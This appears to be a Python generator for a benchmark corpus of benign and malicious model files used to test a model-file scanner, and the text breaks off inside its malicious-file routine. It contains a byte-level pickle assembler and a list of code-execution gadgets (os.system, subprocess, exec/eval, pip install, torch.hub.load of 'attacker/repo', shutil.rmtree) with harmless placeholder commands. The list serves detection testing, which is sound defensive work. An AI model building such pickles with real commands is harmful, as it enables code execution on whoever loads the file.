#!/usr/bin/env python3
"""Writes the model-file corpus of bench/model-scan-vs-peers.

    python3 bench/gen-model-corpus.py --out DIR [--seed 42]
    python3 bench/gen-model-corpus.py --out DIR --big-only [--big-zip-mb 2100] [--big-pickle-mb 2100]

DIR/benign/<class>/... and DIR/malicious/<class>/..., plus DIR/manifest.json, one entry per file:
{"path", "class", "expected": "benign"|"malicious"|"inert", "family", "note"}; "inert" files carry
a payload their loader never runs (bytes torch's legacy loader never reads, a Keras registered_name
that is only looked up in a registry), reported apart from the true/false-positive counts. `family` says what a
scanner needs to see the file's problem: "pickle" (a pickle program, in any container Bulwark's
pickle rules read today) or the format another part of Bulwark is adding (safetensors, gguf, onnx,
keras, torchscript, joblib-compressed, zip-deflated).

Benign files come from the real libraries where they are installed (scikit-learn, joblib, NumPy,
pandas, XGBoost, LightGBM, onnx, h5py); a library that is missing is listed in the manifest's
"missing" and its classes are left out. PyTorch files are written faithfully without torch
(torch.save's zip layout, the legacy format), safetensors, GGUF and .keras by hand.

Malicious pickles are assembled byte by byte (`Enc` below); nothing here unpickles or runs them.
The output is deterministic for a seed and library versions (zip timestamps are fixed).
"""
import argparse
import bz2
import collections
import gzip
import io
import json
import lzma
import os
import pickle
import random
import struct
import sys
import zipfile
import zlib

# --------------------------------------------------------------------------------------------
# A small pickle assembler: values are encoded for one protocol, opcode by opcode.
# --------------------------------------------------------------------------------------------


class G:  # a global, imported with GLOBAL (protocol < 4) or STACK_GLOBAL (4, 5)
    def __init__(self, module, name, via_memo=False):
        self.module, self.name, self.via_memo = module, name, via_memo


class Call:  # callable(*args) through REDUCE
    def __init__(self, fn, *args):
        self.fn, self.args = fn, list(args)


class Tup:
    def __init__(self, *items):
        self.items = list(items)


class Lst:
    def __init__(self, *items):
        self.items = list(items)


class Dct:
    def __init__(self, pairs):
        self.pairs = list(pairs)


class SetItems:  # obj, then SETITEMS with pairs (OrderedDict state dicts)
    def __init__(self, obj, pairs):
        self.obj, self.pairs = obj, list(pairs)


class PersId:  # BINPERSID of a tuple (torch storages)
    def __init__(self, value):
        self.value = value


class Raw:  # bytes emitted as they are
    def __init__(self, data):
        self.data = data


class B:  # a bytes value
    def __init__(self, data):
        self.data = data


class Enc:
    def __init__(self, proto):
        self.proto, self.memo, self.out = proto, 0, bytearray()

    def put(self):
        if self.proto >= 4:
            self.out += b"\x94"
        elif self.proto >= 1:
            self.out += b"q" + bytes([self.memo]) if self.memo < 256 else b"r" + struct.pack("<I", self.memo)
        else:
            self.out += b"p%d\n" % self.memo
        self.memo += 1
        return self.memo - 1

    def get(self, index):
        if self.proto >= 1:
            self.out += b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)
        else:
            self.out += b"g%d\n" % index

    def string(self, s):
        if self.proto == 0:
            esc = "".join(c if 0x20 <= ord(c) < 0x7F and c != "\\" else ("\\u%04x" % ord(c) if ord(c) <= 0xFFFF else "\\U%08x" % ord(c)) for c in s)
            self.out += b"V" + esc.encode("ascii") + b"\n"
        else:
            data = s.encode("utf-8")
            if self.proto >= 4 and len(data) < 256:
                self.out += b"\x8c" + bytes([len(data)]) + data
            else:
                self.out += b"X" + struct.pack("<I", len(data)) + data

    def value(self, v):
        p, o = self.proto, self.out
        if isinstance(v, Raw):
            o += v.data
        elif v is None:
            o += b"N"
        elif isinstance(v, bool):
            o += (b"\x88" if v else b"\x89") if p >= 2 else (b"I01\n" if v else b"I00\n")
        elif isinstance(v, int):
            if p == 0:
                o += b"I%d\n" % v
            elif 0 <= v < 256:
                o += b"K" + bytes([v])
            elif -(2**31) <= v < 2**31:
                o += b"J" + struct.pack("<i", v)
            else:
                data = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
                o += b"\x8a" + bytes([len(data)]) + data if p >= 2 else b"L%dL\n" % v
        elif isinstance(v, float):
            o += b"G" + struct.pack(">d", v) if p >= 1 else b"F%r\n" % v
        elif isinstance(v, str):
            self.string(v)
            self.put()
        elif isinstance(v, B):
            if p >= 3:
                n = len(v.data)
                o += (b"C" + bytes([n]) if n < 256 else b"B" + struct.pack("<I", n) if n < 2**32 else b"\x8e" + struct.pack("<Q", n)) + v.data
            else:  # what pickle writes for bytes before protocol 3
                self.value(Call(G("_codecs", "encode"), v.data.decode("latin1"), "latin1"))
        elif isinstance(v, G):
            if p < 4:
                o += b"c" + v.module.encode() + b"\n" + v.name.encode() + b"\n"
            elif v.via_memo:
                self.string(v.module); m = self.put(); o += b"0"
                self.string(v.name); n = self.put(); o += b"0"
                self.get(m); self.get(n); o += b"\x93"
            else:
                self.string(v.module); self.put(); self.string(v.name); self.put(); o += b"\x93"
            self.put()
        elif isinstance(v, Call):
            self.value(v.fn)
            self.value(Tup(*v.args))
            o += b"R"
            self.put()
        elif isinstance(v, Tup):
            if not v.items:
                o += b")" if p >= 1 else b"(t"
            elif p >= 2 and len(v.items) <= 3:
                for item in v.items:
                    self.value(item)
                o += {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(v.items)]
            else:
                o += b"("
                for item in v.items:
                    self.value(item)
                o += b"t"
        elif isinstance(v, Lst):
            if p == 0:
                o += b"("
                for item in v.items:
                    self.value(item)
                o += b"l"
            else:
                o += b"]"
                if v.items:
                    o += b"("
                    for item in v.items:
                        self.value(item)
                    o += b"e"
            self.put()
        elif isinstance(v, Dct):
            o += b"(" if p == 0 else b"}("
            for key, item in v.pairs:
                self.value(key); self.value(item)
            o += b"d" if p == 0 else b"u"
            self.put()
        elif isinstance(v, SetItems):
            self.value(v.obj)
            if p == 0:
                for key, item in v.pairs:
                    self.value(key); self.value(item); o += b"s"
            else:
                o += b"("
                for key, item in v.pairs:
                    self.value(key); self.value(item)
                o += b"u"
        elif isinstance(v, PersId):
            self.value(v.value)
            o += b"Q"
        else:
            raise TypeError(type(v))

    def program(self, v, frame=None):
        """A whole pickle: PROTO (2+), a FRAME over the body (4+, unless frame=False), the value, STOP."""
        self.value(v)
        body = bytes(self.out) + b"."
        head = b"\x80" + bytes([self.proto]) if self.proto >= 2 else b""
        if self.proto >= 4 and frame is not False:
            head += b"\x95" + struct.pack("<Q", len(body))
        return head + body


def dumps(v, proto, frame=None):
    return Enc(proto).program(v, frame)


# --------------------------------------------------------------------------------------------
# Containers written by hand
# --------------------------------------------------------------------------------------------

FIXED_TIME = (2024, 1, 1, 0, 0, 0)


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    """A zip with members in order ((name, data), ...), fixed timestamps, as torch.save writes (stored)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def raw_zip(members):
    """A zip written field by field, for the tricks zipfile refuses: members are dicts with
    local_name, central_name, data, flags, crc (None = right), method (0 stored, 8 deflated)."""
    out, central = bytearray(), bytearray()
    for m in members:
        data = m["data"]
        method = m.get("method", 0)
        stored = data
        if method == 8:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            stored = c.compress(data) + c.flush()
        crc = m.get("crc")
        crc = zlib.crc32(data) if crc is None else crc
        flags = m.get("flags", 0)
        local, cname = m["local_name"].encode(), m.get("central_name", m["local_name"]).encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x5821, crc, len(stored), len(data), len(local), 0) + local + stored
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x5821, crc, len(stored), len(data),
                               len(cname), 0, 0, 0, 0, 0, offset) + cname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + end)


TORCH_MODULES = ["torch", "torch._utils"]


def numel(shape):
    n = 1
    for d in shape:
        n *= d
    return n


def torch_tensor(key, shape, storage="FloatStorage"):
    stride, acc = [], 1
    for d in reversed(shape):
        stride.insert(0, acc)
        acc *= d
    return Call(G("torch._utils", "_rebuild_tensor_v2"),
                PersId(Tup("storage", G("torch", storage), key, "cpu", numel(shape))),
                0, Tup(*shape), Tup(*stride), False, Call(G("collections", "OrderedDict")))


def torch_state_dict(tensors):
    """data.pkl of torch.save(state_dict), protocol 2 as torch writes it: an OrderedDict of
    _rebuild_tensor_v2 calls whose storages are persistent ids ('storage', torch.FloatStorage, key,
    'cpu', numel)."""
    return SetItems(Call(G("collections", "OrderedDict")),
                    [(name, torch_tensor(str(i), shape)) for i, (name, shape) in enumerate(tensors)])


def torch_zip(data_pkl, storages, prefix="archive", extra=()):
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little")]
    members += [(f"{prefix}/data/{k}", v) for k, v in storages]
    members += [(f"{prefix}/version", b"3\n"), (f"{prefix}/.data/serialization_id", b"1234567890123456789012345678901234567890")]
    members += list(extra)
    return zip_bytes(members)


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_torch(obj_pickle, storages, keys_pickle=None, after=b""):
    """torch.save(..., _use_new_zipfile_serialization=False): five pickles (magic, protocol
    version, system info, the object, the storage keys), then each storage as 8-byte numel + data."""
    parts = [dumps(LEGACY_MAGIC, 2, frame=False), dumps(1001, 2, frame=False),
             dumps(Dct([("protocol_version", 1001), ("little_endian", True),
                        ("type_sizes", Dct([("short", 2), ("int", 4), ("long", 4)]))]), 2, frame=False),
             obj_pickle,
             keys_pickle if keys_pickle is not None else dumps(Lst(*[k for k, _ in storages]), 2, frame=False)]
    out = b"".join(parts)
    for _, data in storages:
        out += struct.pack("<q", len(data) // 4) + data
    return out + after


def legacy_tensor(key, shape):
    stride, acc = [], 1
    for d in reversed(shape):
        stride.insert(0, acc)
        acc *= d
    return Call(G("torch._utils", "_rebuild_tensor_v2"),
                PersId(Tup("storage", G("torch", "FloatStorage"), key, "cpu", numel(shape), None)),
                0, Tup(*shape), Tup(*stride), False, Call(G("collections", "OrderedDict")))


def safetensors(tensors, header_extra=None, length_override=None):
    header, data, offset = {}, b"", 0
    for name, (dtype, shape, payload) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + len(payload)]}
        data += payload
        offset += len(payload)
    header["__metadata__"] = {"format": "pt"}
    if header_extra:
        header.update(header_extra)
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    length = len(text) if length_override is None else length_override
    return struct.pack("<Q", length) + text + data


def gguf(kv, tensors=()):
    """GGUF v3: magic, version, tensor count, kv count, kv pairs (strings, u32, arrays of strings),
    tensor infos, padding to 32, tensor data."""
    def s(text):
        data = text.encode()
        return struct.pack("<Q", len(data)) + data
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kv))
    for key, value in kv:
        out += s(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + s(value)
        elif isinstance(value, int):
            out += struct.pack("<II", 4, value)
        elif isinstance(value, list):
            out += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(s(v) for v in value)
    offset, blobs = 0, b""
    for name, shape, data in tensors:
        out += s(name) + struct.pack("<I", len(shape)) + b"".join(struct.pack("<Q", d) for d in shape) + struct.pack("<IQ", 0, offset)
        blobs += data + b"\0" * (-len(data) % 32)
        offset = len(blobs)
    out += b"\0" * (-len(out) % 32)
    return out + blobs


def npy_header(descr, shape):
    text = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    text += " " * (-(len(text) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")


def keras_zip(config, weights=b""):
    metadata = {"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}
    return zip_bytes([("metadata.json", json.dumps(metadata).encode()), ("config.json", json.dumps(config).encode()),
                      ("model.weights.h5", weights)])


def keras_dense_config(extra_layers=()):
    layers = [{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}, "registered_name": None},
              {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 8, "activation": "relu", "use_bias": True, "dtype": "float32"}, "registered_name": None,
               "build_config": {"input_shape": [None, 4]}},
              {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense_1", "units": 3, "activation": "softmax", "use_bias": True, "dtype": "float32"}, "registered_name": None,
               "build_config": {"input_shape": [None, 8]}}]
    layers[2:2] = list(extra_layers)
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "dtype": "float32", "layers": layers},
            "registered_name": None, "build_config": {"input_shape": [None, 4]},
            "compile_config": {"optimizer": "adam", "loss": "sparse_categorical_crossentropy", "metrics": ["accuracy"]}}


# --------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------


class Corpus:
    def __init__(self, out):
        self.out, self.entries, self.missing, self.versions = out, [], [], {}

    def add(self, expected, cls, name, data, family="pickle", note=""):
        rel = os.path.join(expected, cls, name)
        path = os.path.join(self.out, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        self.entries.append({"path": rel, "class": cls, "expected": expected, "family": family, "note": note})

    def add_file(self, expected, cls, name, writer, family="pickle", note=""):
        """A file a library writes itself: writer(path)."""
        rel = os.path.join(expected, cls, name)
        path = os.path.join(self.out, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        writer(path)
        self.entries.append({"path": rel, "class": cls, "expected": expected, "family": family, "note": note})


def optional(corpus, name):
    try:
        module = __import__(name)
        corpus.versions[name] = getattr(module, "__version__", "?")
        return module
    except Exception as error:  # a library that does not install is reported, not fatal
        corpus.missing.append(f"{name}: {error.__class__.__name__}: {error}")
        return None


def benign(c, rng):
    import warnings
    warnings.simplefilter("ignore")  # convergence warnings of the tiny fits
    np = optional(c, "numpy")
    sklearn = optional(c, "sklearn")
    joblib = optional(c, "joblib")
    pd = optional(c, "pandas")
    xgb = optional(c, "xgboost")
    lgb = optional(c, "lightgbm")
    scipy = optional(c, "scipy")
    onnx = optional(c, "onnx")
    h5py = optional(c, "h5py")

    if np is not None:
        X = np.random.RandomState(rng.randrange(2**31)).rand(60, 4)
        y = (X[:, 0] + X[:, 1] > 1).astype(np.int64)
    if sklearn is not None and np is not None:
        from sklearn.pipeline import Pipeline, make_pipeline
        from sklearn.preprocessing import StandardScaler, OneHotEncoder
        from sklearn.linear_model import LogisticRegression, Ridge
        from sklearn.ensemble import RandomForestClassifier, GradientBoostingRegressor
        from sklearn.tree import DecisionTreeClassifier
        from sklearn.svm import SVC
        from sklearn.cluster import KMeans
        from sklearn.decomposition import PCA
        from sklearn.feature_extraction.text import TfidfVectorizer
        from sklearn.neighbors import KNeighborsClassifier
        from sklearn.compose import ColumnTransformer
        from sklearn.ensemble import HistGradientBoostingClassifier, IsolationForest
        from sklearn.neural_network import MLPClassifier
        from sklearn.linear_model import SGDClassifier
        from sklearn.naive_bayes import GaussianNB
        from sklearn.impute import SimpleImputer
        from sklearn.feature_extraction.text import CountVectorizer
        models = {
            "pipeline-logreg": make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)).fit(X, y),
            "random-forest": RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y),
            "gbr": GradientBoostingRegressor(n_estimators=5, random_state=0).fit(X, X[:, 2]),
            "svc": SVC().fit(X, y),
            "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(X),
            "pca-tree": Pipeline([("pca", PCA(n_components=2)), ("tree", DecisionTreeClassifier(random_state=0))]).fit(X, y),
            "knn": KNeighborsClassifier().fit(X, y),
            "tfidf": TfidfVectorizer().fit(["a model file", "another model", "pickle files run code"]),
            "ridge": Ridge().fit(X, X[:, 3]),
            "hist-gradient-boosting": HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y),
            "mlp": MLPClassifier(hidden_layer_sizes=(4,), max_iter=50, random_state=0).fit(X, y),
            "isolation-forest": IsolationForest(n_estimators=5, random_state=0).fit(X),
            "knn-ball-tree": KNeighborsClassifier(algorithm="ball_tree").fit(X, y),
            "sgd": SGDClassifier(random_state=np.random.RandomState(0)).fit(X, y),
            "naive-bayes": GaussianNB().fit(X, y),
            "impute-count-vectorizer": make_pipeline(SimpleImputer(), StandardScaler()).fit(X),
            "count-vectorizer": CountVectorizer(ngram_range=(1, 2)).fit(["a model file", "another model"]),
        }
        if pd is not None:
            frame = pd.DataFrame({"n": X[:, 0], "c": ["a", "b", "c"] * 20})
            models["column-transformer"] = ColumnTransformer([("num", StandardScaler(), ["n"]), ("cat", OneHotEncoder(), ["c"])]).fit(frame)
        for name, model in models.items():
            for proto in (2, 3, 4, 5):
                c.add("benign", f"sklearn-pickle-p{proto}", f"{name}.pkl", pickle.dumps(model, protocol=proto))
        if joblib is not None:
            for compress in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
                cls = f"sklearn-joblib-{compress or 'plain'}"
                family = "pickle" if compress is None else "joblib-compressed"
                for name in ("pipeline-logreg", "random-forest", "kmeans", "tfidf"):
                    c.add_file("benign", cls, f"{name}.joblib",
                               lambda p, m=models[name], z=compress: joblib.dump(m, p, compress=(z, 3) if z else 0), family=family)
    if np is not None:
        arrays = {"float32": np.arange(24, dtype=np.float32).reshape(4, 6), "int64": np.arange(10, dtype=np.int64),
                  "bool": np.array([True, False]), "float16-3d": np.ones((2, 3, 4), dtype=np.float16)}
        for name, array in arrays.items():
            c.add_file("benign", "numpy-npy", f"{name}.npy", lambda p, a=array: np.save(p, a))
        c.add_file("benign", "numpy-npz", "weights.npz", lambda p: np.savez(p, **{k.replace("-", "_"): v for k, v in arrays.items()}))
        c.add_file("benign", "numpy-npz", "weights-compressed.npz",
                   lambda p: np.savez_compressed(p, **{k.replace("-", "_"): v for k, v in arrays.items()}))
        for proto in (2, 3, 4, 5):
            c.add("benign", "numpy-pickle", f"arrays-p{proto}.pkl", pickle.dumps(arrays, protocol=proto))
        state = collections.OrderedDict((f"layer{i}.weight", np.full((3, 3), i, dtype=np.float32)) for i in range(4))
        state["step"] = 1000
        state["lr"] = 0.001
        generators = {"default-rng": np.random.default_rng(7), "random-state": np.random.RandomState(7),
                      "philox": np.random.Generator(np.random.Philox(7)), "sfc64": np.random.Generator(np.random.SFC64(7)),
                      "pcg64dxsm": np.random.Generator(np.random.PCG64DXSM(7)), "mt19937": np.random.Generator(np.random.MT19937(7))}
        for name, generator in generators.items():
            c.add("benign", "numpy-random-pickle", f"{name}-p4.pkl", pickle.dumps(generator, protocol=4))
        c.add("benign", "numpy-pickle", "scalars-p2.pkl", pickle.dumps([np.float32(1.5), np.int64(3), np.bool_(True), np.float16(2.0),
                                                                        np.uint8(7), np.complex64(1j), np.datetime64("2024-01-01")], protocol=2))
        c.add("benign", "numpy-pickle", "masked-p4.pkl", pickle.dumps(np.ma.masked_array([1.0, 2.0], mask=[False, True]), protocol=4))
        c.add("benign", "numpy-pickle", "structured-p4.pkl", pickle.dumps(np.zeros(2, dtype=[("a", "<f4"), ("b", "<i8")]), protocol=4))
        for proto in (2, 3, 4, 5):
            c.add("benign", "ordereddict-state", f"state-p{proto}.pkl", pickle.dumps(state, protocol=proto))
    if pd is not None:
        frame = pd.DataFrame({"a": range(5), "b": [0.5] * 5, "c": list("vwxyz"),
                              "t": pd.date_range("2024-01-01", periods=5), "cat": pd.Categorical(list("aabba"))})
        for proto in (2, 3, 4, 5):
            c.add("benign", "pandas-pickle", f"frame-p{proto}.pkl", pickle.dumps(frame, protocol=proto))
        c.add("benign", "pandas-pickle", "series-p4.pkl", pickle.dumps(pd.Series([1.0, 2.0], index=["x", "y"]), protocol=4))
        typed = pd.DataFrame({"tz": pd.date_range("2024-01-01", periods=3, tz="UTC"), "td": pd.to_timedelta([1, 2, 3], unit="s"),
                              "nullable": pd.array([1, None, 3], dtype="Int64"), "flag": pd.array([True, None, False], dtype="boolean"),
                              "period": pd.period_range("2024-01", periods=3, freq="M"), "interval": pd.interval_range(0, 3),
                              "f": pd.array([0.5, None, 1.5], dtype="Float64")},
                             index=pd.MultiIndex.from_tuples([("a", 1), ("a", 2), ("b", 1)], names=["k", "n"]))
        for proto in (2, 4, 5):
            c.add("benign", "pandas-pickle", f"typed-frame-p{proto}.pkl", pickle.dumps(typed, protocol=proto))
        c.add("benign", "pandas-pickle", "timestamp-p4.pkl", pickle.dumps([pd.Timestamp("2024-01-01", tz="UTC"), pd.Timedelta("1h"), pd.NaT,
                                                                        pd.Period("2024-01", freq="M"), pd.Interval(0, 1)], protocol=4))
    if scipy is not None and np is not None:
        import scipy.sparse
        c.add("benign", "scipy-pickle", "csr-p4.pkl", pickle.dumps(scipy.sparse.csr_matrix(np.eye(4)), protocol=4))
        c.add("benign", "scipy-pickle", "csr-array-p5.pkl", pickle.dumps(scipy.sparse.csr_array(np.eye(4)), protocol=5))
    if xgb is not None and np is not None:
        model = xgb.XGBClassifier(n_estimators=3, max_depth=2).fit(X, y)
        for proto in (2, 4, 5):
            c.add("benign", "xgboost-pickle", f"xgbclassifier-p{proto}.pkl", pickle.dumps(model, protocol=proto))
        c.add("benign", "xgboost-pickle", "booster-p4.pkl", pickle.dumps(model.get_booster(), protocol=4))
        if joblib is not None:
            c.add_file("benign", "xgboost-pickle", "xgbclassifier.joblib", lambda p: joblib.dump(model, p))
    if lgb is not None and np is not None:
        model = lgb.LGBMClassifier(n_estimators=3, verbose=-1).fit(X, y)
        for proto in (2, 4, 5):
            c.add("benign", "lightgbm-pickle", f"lgbmclassifier-p{proto}.pkl", pickle.dumps(model, protocol=proto))
        c.add("benign", "lightgbm-pickle", "booster-p4.pkl", pickle.dumps(model.booster_, protocol=4))
        if joblib is not None:
            c.add_file("benign", "lightgbm-pickle", "lgbmclassifier.joblib", lambda p: joblib.dump(model, p))

    # PyTorch, written as torch.save writes it (protocol 2, persistent ids), without torch.
    layers = [("embed.weight", (16, 8)), ("fc1.weight", (8, 8)), ("fc1.bias", (8,)), ("fc2.weight", (4, 8)), ("fc2.bias", (4,))]
    storages = [(str(i), struct.pack("<%df" % numel(shape), *([0.25] * numel(shape)))) for i, (_, shape) in enumerate(layers)]
    state = torch_state_dict(layers)
    c.add("benign", "torch-zip", "model.pt", torch_zip(dumps(state, 2), storages))
    c.add("benign", "torch-zip", "pytorch_model.bin", torch_zip(dumps(state, 2), storages, prefix="pytorch_model"))
    checkpoint = Dct([("epoch", 7), ("model_state_dict", state), ("optimizer_state_dict", Dct([("state", Dct([])), ("param_groups", Lst(Dct([("lr", 0.01), ("params", Lst(0, 1, 2))])))])),
                      ("loss", 0.125)])
    c.add("benign", "torch-zip", "checkpoint.ckpt", torch_zip(dumps(checkpoint, 2), storages, prefix="checkpoint"))
    legacy_state = SetItems(Call(G("collections", "OrderedDict")), [(name, legacy_tensor(str(i), shape)) for i, (name, shape) in enumerate(layers)])
    c.add("benign", "torch-legacy", "pytorch_model.bin", legacy_torch(dumps(legacy_state, 2, frame=False), storages))
    c.add("benign", "torch-legacy", "model-legacy.pt", legacy_torch(dumps(legacy_state, 2, frame=False), storages[:1] + storages[1:]))

    # TorchScript (torch.jit.save): code/, constants.pkl, data.pkl with __torch__ classes.
    # data.pkl: __torch__.MyModule() through NEWOBJ, then BUILD with its attributes, as torch.jit.save writes it.
    ts_data = b"\x80\x02c__torch__\nMyModule\nq\x00)\x81q\x01}q\x02X\x08\x00\x00\x00trainingq\x03\x88sb."
    c.add("benign", "torchscript", "scripted.pt", zip_bytes([
        ("scripted/data.pkl", ts_data), ("scripted/code/__torch__.py", b"class MyModule(Module):\n  __parameters__ = []\n  def forward(self: __torch__.MyModule, x: Tensor) -> Tensor:\n    return torch.relu(x)\n"),
        ("scripted/constants.pkl", dumps(Tup(), 2)), ("scripted/version", b"3\n")]), family="torchscript",
        note="data.pkl rebuilds __torch__.MyModule, which only TorchScript's own unpickler resolves")

    # safetensors, GGUF, ONNX, Keras
    f32 = lambda n: struct.pack("<%df" % n, *([0.5] * n))
    c.add("benign", "safetensors", "model.safetensors", safetensors({"fc.weight": ("F32", [4, 4], f32(16)), "fc.bias": ("F32", [4], f32(4))}), family="safetensors")
    c.add("benign", "safetensors", "empty.safetensors", safetensors({}), family="safetensors")
    template = ("{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token }}"
                "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}")
    c.add("benign", "gguf", "tiny.gguf", gguf([("general.architecture", "llama"), ("general.name", "tiny"), ("tokenizer.chat_template", template),
                                              ("tokenizer.ggml.tokens", ["<s>", "</s>", "a"])], [("token_embd.weight", (4, 3), f32(12))]), family="gguf")
    if onnx is not None:
        from onnx import helper, TensorProto, numpy_helper
        weight = helper.make_tensor("W", TensorProto.FLOAT, [4, 3], [0.1] * 12)
        graph = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "tiny",
                                  [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                                  [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])], [weight])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="bench")
        c.add("benign", "onnx", "tiny.onnx", model.SerializeToString(), family="onnx")
        external = onnx.ModelProto()
        external.CopyFrom(model)
        tensor = external.graph.initializer[0]
        tensor.ClearField("float_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", "tiny.weights"), ("offset", "0"), ("length", "48")):
            entry = tensor.external_data.add(); entry.key, entry.value = key, value
        c.add("benign", "onnx", "external.onnx", external.SerializeToString(), family="onnx", note="external data in tiny.weights beside it")
        c.add("benign", "onnx", "tiny.weights", f32(12), family="onnx", note="raw weights of external.onnx")
    weights = b""
    if h5py is not None:
        buffer = io.BytesIO()
        with h5py.File(buffer, "w") as h5:
            h5.create_dataset("layers/dense/vars/0", data=[[0.1] * 8] * 4)
            h5.create_dataset("layers/dense/vars/1", data=[0.0] * 8)
        weights = buffer.getvalue()
    c.add("benign", "keras", "model.keras", keras_zip(keras_dense_config(), weights), family="keras")
    if h5py is not None:
        def legacy_h5(path, config):
            with h5py.File(path, "w") as h5:
                h5.attrs["model_config"] = json.dumps(config)
                h5.attrs["keras_version"] = "2.15.0"
                h5.attrs["backend"] = "tensorflow"
                h5.create_dataset("model_weights/dense/dense/kernel:0", data=[[0.1] * 8] * 4)
        c.add_file("benign", "keras", "model.h5", lambda p: legacy_h5(p, keras_dense_config()), family="keras")
        c.legacy_h5 = legacy_h5


# Each dangerous callable with the arguments a real payload would give it: (class, module, name, args).
CMD = "echo bench-corpus-marker > /dev/null"
PAYLOADS = [
    ("os-system", "os", "system", [CMD]),
    ("posix-system", "posix", "system", [CMD]),
    ("subprocess-popen", "subprocess", "Popen", [Lst("sh", "-c", CMD)]),
    ("builtins-exec-memo", "builtins", "exec", ["import os; os.system('true')"]),
    ("builtins-eval-memo", "builtins", "eval", ["__import__('os').system('true')"]),
    ("pip-main", "pip", "main", [Lst("install", "--quiet", "bench-nonexistent-package")]),
    ("timeit-timeit", "timeit", "timeit", ["__import__('os').system('true')"]),
    ("pty-spawn", "pty", "spawn", ["/bin/true"]),
    ("doctest-debug-script", "doctest", "debug_script", ["import os; os.system('true')"]),
    ("idlelib-calltip-get-entity", "idlelib.calltip", "get_entity", ["__import__('os').system('true')"]),
    ("io-fileio", "_io", "FileIO", ["/tmp/bench-corpus-overwrite", "w"]),
    ("shutil-rmtree", "shutil", "rmtree", ["/tmp/bench-corpus-nonexistent"]),
    ("runpy-run-path", "runpy", "run_path", ["/tmp/bench-corpus-nonexistent.py"]),
    ("torch-load", "torch", "load", ["/tmp/bench-corpus-nonexistent.pt"]),
    ("torch-hub-load", "torch.hub", "load", ["attacker/repo", "model"]),
    ("torch-jit-load", "torch.jit", "load", ["/tmp/bench-corpus-nonexistent.pt"]),
    ("torch-c-jit-operation", "torch._C", "_jit_get_operation", ["aten::system"]),
    ("torch-serialization-load", "torch.serialization", "load", ["/tmp/bench-corpus-nonexistent.pt"]),
    ("webbrowser-open", "webbrowser", "open", ["http://127.0.0.1:1/"]),
    ("ctypes-cdll", "ctypes", "CDLL", ["/tmp/bench-corpus-nonexistent.so"]),
]

# Methods of classes: dotted names need protocol 4 (STACK_GLOBAL / find_class with a dotted path).
METHOD_PAYLOADS = [
    ("profile-profile-run", "profile", "Profile.run", ("profile", "Profile", []), ["import os; os.system('true')"]),
    ("trace-trace-runctx", "trace", "Trace.runctx", ("trace", "Trace", []), ["import os; os.system('true')", Dct([]), Dct([])]),
    ("code-interactiveinterpreter-runcode", "code", "InteractiveInterpreter.runcode", ("code", "InteractiveInterpreter", []), ["import os; os.system('true')"]),
    ("lib2to3-pgen-make-label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, [None, None, "__import__('os').system('true')"]),
    ("idlelib-pyshell-runcode", "idlelib.pyshell", "ModifiedInterpreter.runcode", None, [None, "import os; os.system('true')"]),
    ("asyncio-unixsubprocesstransport-start", "asyncio.unix_events", "_UnixSubprocessTransport._start", None,
     [None, Lst("sh", "-c", "true"), True, None, None, None, 0]),
]


def malicious(c, rng):
    # Dangerous callables, protocols 0–5 (4 and 5 through STACK_GLOBAL; exec/eval with operands from memo).
    for cls, module, name, args in PAYLOADS:
        for proto in range(6):
            via_memo = cls.endswith("-memo")
            payload = Call(G(module, name, via_memo=via_memo), *args)
            c.add("malicious", cls, f"{cls}-p{proto}.pkl", dumps(payload, proto))
    for cls, module, name, ctor, args in METHOD_PAYLOADS:
        for proto in (4, 5):
            self_arg = Call(G(ctor[0], ctor[1]), *ctor[2]) if ctor else None
            call_args = ([self_arg] + args) if ctor else args
